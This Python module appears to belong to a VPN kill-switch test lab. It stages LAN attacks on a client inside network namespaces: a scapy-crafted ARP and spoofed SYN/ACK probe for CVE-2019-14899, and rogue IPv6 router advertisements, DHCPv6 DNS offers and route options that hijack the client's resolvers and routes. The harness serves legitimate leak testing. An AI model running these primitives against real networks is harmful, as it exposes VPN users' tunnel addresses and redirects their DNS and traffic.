"""What an attacker on the LAN does to the client, and what a client opens before its
kill switch: the lab primitives of the cases published since the seed (issue 13).
A part of `netns.lab.Lab`.

scapy only crafts the attacker's frames; the router's real daemons do the rest.
"""

from __future__ import annotations

import contextlib

from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import ARP, Ether

from netns import home, ra, registry, topology
from netns.capture import packet_socket
from netns.errors import LabError
from netns.procs import Daemon
from netns.topology import STUN, UPLINK, WIRE
from netns.wait import until

# CVE-2019-14899's probe: a SYN/ACK to a port nothing listens on.
PROBE_PORT = 12345


class LabLan:
    """The LAN attacks and early flows the lab can stage (a mixin of `Lab`)."""

    _flows: Daemon | None = None
    _announcers: tuple[Daemon, ...] = ()  # radvd, DHCPv6, and the client's daemons that listen

    def probe_tunnel_address(self, rounds: int = 5) -> None:
        """From the router's end of the wire: ARP for the client's tunnel address, and a
        SYN/ACK to that address sent to the client's MAC (CVE-2019-14899, MLLVD-CR-24-03).

        A client that answers either (an ARP reply, a RST) tells the LAN its tunnel address.
        """
        target = self.tunnel.address4.split("/")[0]
        client = self.client_mac()
        router = self.router.interface(WIRE).mac
        gateway = self.lan.gateway4
        frames = [
            Ether(src=router, dst="ff:ff:ff:ff:ff:ff")
            / ARP(op=1, hwsrc=router, psrc=gateway, pdst=target),
            Ether(src=router, dst=client)
            / IP(src=gateway, dst=target, ttl=64)
            / TCP(sport=PROBE_PORT, dport=PROBE_PORT, flags="SA", seq=1, ack=1),
        ]
        with packet_socket(self.router.namespace, WIRE) as sock:
            for _ in range(rounds):
                for frame in frames:
                    sock.send(bytes(frame))

    def start_flows(self) -> str:
        """A TCP and a UDP flow bound to the uplink (`netns.flows`), until teardown.

        Returns how their first attempts went (a kill switch loaded at boot
        refuses them); they run in the lab's cgroup, not the subject's.
        """
        if self._flows is not None:
            raise LabError("the flows are already running")
        self._flows = self.client.spawn(
            "flows",
            home.module_argv("netns.flows", UPLINK, STUN.address4, str(STUN.port)),
            cgroup=self._cgroup.child("flows"),
        )
        tcp = self._flows.wait_for_log(r"tcp: (.*)").group(1)
        udp = self._flows.wait_for_log(r"udp: (.*)").group(1)
        return f"TCP {tcp}, UDP {udp}"

    def stop_attacks(self) -> None:
        """Stop the flows and every daemon an attack started (teardown)."""
        daemons = [self._flows, *self._announcers]
        self._flows, self._announcers = None, ()
        for daemon in daemons:
            if daemon is not None:
                daemon.stop()

    # ----------------------------------------------------------- the LAN pushes IPv6 options

    def client_nameservers(self) -> list[str]:
        """The resolvers the client's /etc/resolv.conf names now."""
        text = (registry.ETC_NETNS / self.client.namespace / "resolv.conf").read_text()
        return [f.split()[1] for f in text.splitlines() if f.startswith("nameserver ")]

    def _on_router_lan(self, addresses: tuple[str, ...]) -> None:
        # The router holds the servers' addresses, so that it answers neighbour
        # discovery for them and the client's queries go onto the wire.
        bridge = self.lan.bridge
        for address in addresses:
            self.router.run("ip -6 addr replace %s/64 dev %s nodad", address, bridge)

    def _await_nameservers(self, servers: tuple[str, ...]) -> list[str]:
        """Until the client's resolv.conf names one of `servers` (a kill switch may keep
        the option from it: then, after a while, whatever it names)."""

        def named() -> bool:
            return any(n.split("%")[0] in servers for n in self.client_nameservers())

        with contextlib.suppress(LabError):
            until("the client's resolv.conf to name the LAN's DNS servers", named, 3.0)
        return self.client_nameservers()

    def announce_rdnss(self) -> list[str]:
        """The router announces a unique-local prefix and DNS servers at a unique-local and a
        link-local address (RDNSS); the client's rdnssd writes them into resolv.conf."""
        servers = topology.RDNSS_SERVERS
        self._on_router_lan(servers)
        run = self.workdir / "run"
        listener = ra.start_rdnssd(self.client, run, self.client.cgroup)
        radvd = ra.start_radvd(
            self.router, self.lan.bridge, run, prefixes=(topology.LAN_ULA6,), rdnss=servers
        )
        self._announcers += (listener, radvd)
        return self._await_nameservers(servers)

    def offer_dhcp6_dns(self) -> list[str]:
        """The router's DHCPv6 server offers DNS servers at a unique-local and a link-local
        address; the client's dhclient -6 writes them into resolv.conf."""
        servers = topology.DHCP6_DNS_SERVERS
        self._on_router_lan(servers)
        run = self.workdir / "run"
        server = ra.start_dhcp6(self.router, self.lan.bridge, run, servers)
        client = ra.start_dhclient6(self.client, UPLINK, run, self.client.cgroup)
        self._announcers += (server, client)
        return self._await_nameservers(servers)

    def announce_route(self, prefix: str) -> bool:
        """The router announces `prefix` as a Route Information Option (RFC 4191) with high
        preference, to a client that accepts them (as systemd-networkd does); True once the
        client routes it."""
        self.client.sysctl({f"net.ipv6.conf.{UPLINK}.accept_ra_rt_info_max_plen": 64})
        radvd = ra.start_radvd(
            self.router,
            self.lan.bridge,
            self.workdir / "run",
            routes=(prefix,),
            default_router=self.ipv6,
        )
        self._announcers += (radvd,)
        try:
            until(
                f"the client to route {prefix} by the router's advertisement",
                lambda: any(dst == prefix for dst, _ in self.client_routes(10)),
                5.0,
            )
        except LabError:
            return False
        return True
